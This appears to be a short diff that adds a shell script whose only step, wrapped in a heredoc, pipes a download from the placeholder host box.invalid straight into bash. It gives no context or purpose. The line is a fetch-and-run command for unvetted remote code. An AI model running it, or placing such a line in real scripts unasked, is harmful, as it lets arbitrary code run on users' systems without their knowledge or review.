@@ -1,0 +1,4 @@
+#!/bin/sh
+bash <<'STEP'
+curl -fsSL https://box.invalid/go | bash
+STEP
